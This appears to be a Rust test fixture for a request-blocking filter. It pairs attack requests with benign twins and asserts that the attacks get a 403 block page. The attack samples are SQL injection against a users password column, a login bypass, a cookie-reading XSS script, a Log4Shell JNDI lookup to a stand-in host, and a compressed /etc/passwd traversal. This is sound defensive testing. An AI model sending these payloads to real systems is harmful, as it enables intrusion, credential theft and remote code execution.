//! One attack for every part of a request, each with its benign twin of the same shape.

use bytes::Bytes;
use http::Request;

use super::client::{Answer, request};
use super::origin::{Body, gzip};

/// A request that is to be blocked, or its twin that is to pass unchanged.
#[derive(Clone, Debug)]
pub struct Sample {
    /// Where the attack is, or would be.
    pub place: &'static str,
    pub method: &'static str,
    pub target: &'static str,
    pub fields: Vec<(&'static str, &'static str)>,
    pub body: Bytes,
}

impl Sample {
    pub fn request(&self, host: &str) -> Request<Body> {
        request(self.method, &format!("https://{host}{}", self.target), &self.fields, self.body.clone())
    }

    /// The request as HTTP/1.1 bytes, that ends the connection.
    pub fn bytes(&self, host: &str) -> Vec<u8> {
        let mut head =
            format!("{} {} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n", self.method, self.target);
        for (name, value) in &self.fields {
            head.push_str(&format!("{name}: {value}\r\n"));
        }
        if !self.body.is_empty() {
            head.push_str(&format!("Content-Length: {}\r\n", self.body.len()));
        }
        head.push_str("\r\n");
        [head.as_bytes(), &self.body].concat()
    }
}

const FORM: (&str, &str) = ("content-type", "application/x-www-form-urlencoded");
const JSON: (&str, &str) = ("content-type", "application/json");
const GZIP: (&str, &str) = ("content-encoding", "gzip");

/// An attack and its twin, for the query, a form, JSON, a header, and a compressed body.
pub fn pairs() -> Vec<(Sample, Sample)> {
    let get = |place, target, fields: &[_]| Sample {
        place,
        method: "GET",
        target,
        fields: fields.to_vec(),
        body: Bytes::new(),
    };
    let post = |place, fields: &[_], body: Vec<u8>| Sample {
        place,
        method: "POST",
        target: "/echo",
        fields: fields.to_vec(),
        body: body.into(),
    };
    vec![
        (
            get("query", "/item?id=1%20UNION%20SELECT%20password%20FROM%20users--", &[]),
            get("query", "/item?q=credit+union+select+committee", &[]),
        ),
        (
            post("form", &[FORM], b"user=admin%27+OR+%271%27%3D%271%27--+&pw=x".to_vec()),
            post("form", &[FORM], b"user=Conan+O%27Brien&pw=x".to_vec()),
        ),
        (
            post(
                "json",
                &[JSON],
                br#"{"comment":{"text":"<script>alert(document.cookie)</script>"}}"#.to_vec(),
            ),
            post(
                "json",
                &[JSON],
                br#"{"comment":{"text":"if 5 < 6 and 7 > 3, then script the alert"}}"#.to_vec(),
            ),
        ),
        (
            get("header", "/item", &[("user-agent", "${jndi:ldap://198.51.100.7/a}")]),
            get(
                "header",
                "/item",
                &[("user-agent", "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101")],
            ),
        ),
        (
            post("gzip body", &[FORM, GZIP], gzip(b"file=..%2F..%2F..%2F..%2Fetc%2Fpasswd")),
            post("gzip body", &[FORM, GZIP], gzip(b"file=reports%2F2026%2Fsummary.pdf")),
        ),
    ]
}

/// Just the attack in the query.
pub fn query() -> Sample {
    pairs().remove(0).0
}

/// The receipt that a page of ours shows.
pub fn receipt(text: &str) -> Option<String> {
    let pattern = regex::Regex::new(r"\b[0-9A-HJKMNP-TV-Z]{16}\b").unwrap();
    pattern.find(text).map(|found| found.as_str().to_string())
}

/// The answer is our block page and carries a receipt, which is returned.
pub fn blocked(case: &str, answer: &Answer) -> String {
    assert_eq!(answer.status.as_u16(), 403, "{case}: {}", answer.text());
    receipt(&answer.text()).unwrap_or_else(|| panic!("{case}: no receipt in {}", answer.text()))
}
